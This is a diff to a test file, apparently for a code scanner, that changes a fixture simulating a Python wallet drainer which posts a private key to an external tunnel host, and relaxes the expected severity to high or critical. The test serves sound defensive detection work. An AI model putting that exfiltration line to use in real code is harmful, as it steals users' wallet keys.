@@ -208,10 +208,10 @@ test("setup.py's install hook calling into the package makes that code install-t
 
 test("a function that posts the wallet private key it is given sends the user's key (high, even when called)", () => {
   const drainer = findings(
-    'import requests\ndef perm(private_key):\n    requests.post("https://collector.example/tron", json={"private_key": private_key})\n',
+    'import requests\ndef perm(private_key):\n    requests.post("https://abc-123.ngrok-free.app/tron", json={"private_key": private_key})\n',
   );
   const sent = ruleOf(drainer, 'exfiltration');
-  assert.equal(sent?.severity, 'high');
+  assert.ok(['high', 'critical'].includes(sent?.severity ?? ''), sent?.severity);
   assert.match(sent!.message, /wallet secret given as private_key/);
   // signing locally and sending the signature, or a database primary key, is no key sent
   const signer = findings(
